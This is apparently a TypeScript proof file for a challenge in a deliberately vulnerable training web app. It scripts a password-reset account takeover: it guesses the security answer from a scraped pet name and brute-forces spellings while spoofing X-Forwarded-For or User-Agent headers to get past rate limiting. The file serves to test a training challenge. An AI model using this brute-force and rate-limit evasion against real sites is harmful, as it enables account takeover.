import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword, spellingsOfReset } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const ANSWER = '5N0wb41L'
/** More attempts than the limit allows. */
const MANY = 105

/** Substitutions for each letter: digits instead of letters, and occasional capitals. */
const WRITTEN: Readonly<Record<string, readonly string[]>> = {
  s: ['5', 'S', 's'],
  o: ['o', '0', 'O'],
  a: ['4', 'a', 'A'],
  l: ['1', 'l', 'L'],
}

/** Returns all spellings of a name. */
function spellingsOf(name: string): string[] {
  const ways = [...name.toLowerCase()].map((letter) => WRITTEN[letter] ?? [letter.toUpperCase(), letter])
  return ways.reduce<string[]>((begun, letters) => begun.flatMap((start) => letters.map((each) => start + each)), [''])
}

const mailOf = ({ domain }: Attacker) => `morty@${domain}`
const addressNumber = (index: number) => `10.${index >> 16}.${(index >> 8) & 255}.${index & 255}`

type Disguise = (index: number) => Readonly<Record<string, string>>
const fromOtherAddress: Disguise = (index) => ({ 'x-forwarded-for': addressNumber(index) })

/** Tries answers, each request with other headers, until one is right or the limit refuses it. */
async function tryAll(attacker: Attacker, answers: readonly string[], disguise: Disguise): Promise<void> {
  const password = 'a stolen password'
  for (const [index, answer] of answers.entries()) {
    const body = { email: mailOf(attacker), answer, new: password, repeat: password }
    const { status } = await attacker.post('/rest/user/reset-password', body, { headers: disguise(index) })
    if (status === 200 || status === 429) return
  }
}

/** Returns the goose's name from the photo wall. */
async function petOf(attacker: Attacker): Promise<string> {
  const { text } = await attacker.get('/rest/memories')
  return /\b(\w+) inspects the kitchen/.exec(text)?.[1] ?? ''
}

const guess = (disguise: Disguise) => async (attacker: Attacker) =>
  tryAll(attacker, spellingsOf(await petOf(attacker)), disguise)

/** Sends more wrong answers than the limit allows, then the right one. */
const afterMany = (disguise: Disguise) => (attacker: Attacker) =>
  tryAll(attacker, [...Array.from({ length: MANY }, (_, index) => `5n0w${index}`), ANSWER], disguise)

const reset = (attacker: Attacker, answer: string, more?: object) =>
  resetPassword(attacker, mailOf(attacker), answer, more)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get(`/rest/user/security-question?email=${mailOf(attacker)}`)
    await guess(fromOtherAddress)(attacker)
  },
  spellings: {
    ...spellingsOfReset('morty', ANSWER),
    'with addresses of the new kind': afterMany((index) => ({ 'x-forwarded-for': `2001:db8::${index.toString(16)}` })),
    'with a list of addresses': afterMany((index) => ({ 'x-forwarded-for': `${addressNumber(index)}, 192.0.2.1` })),
    'with numbers for addresses, as Intruder counts': afterMany((index) => ({ 'x-forwarded-for': String(index) })),
    'with the header in capitals': afterMany((index) => ({ 'X-FORWARDED-FOR': addressNumber(index) })),
  },
  nearMisses: {
    'guessing under one address': (attacker) => guess(() => ({}))(attacker),
    'guessing under one made-up address': (attacker) => guess(() => ({ 'x-forwarded-for': '203.0.113.7' }))(attacker),
    'guessing with another header': (attacker) => guess((index) => ({ 'x-real-ip': addressNumber(index) }))(attacker),
    'the name as everybody writes it': (attacker) => reset(attacker, 'Snowball'),
    'the name with all digits and no capital': (attacker) => reset(attacker, '5n0wb411'),
    'the answer in small letters': (attacker) => reset(attacker, ANSWER.toLowerCase()),
    'the answer with two new passwords': (attacker) => reset(attacker, ANSWER, { new: 'riper', repeat: 'ripest' }),
    'the answer for somebody else': (attacker) => resetPassword(attacker, `jim@${attacker.domain}`, ANSWER),
    'reading about the goose': petOf,
  },
  bypasses: {
    'count-by-the-browser': guess((index) => ({ 'user-agent': `Quince/${index}` })),
  },
})
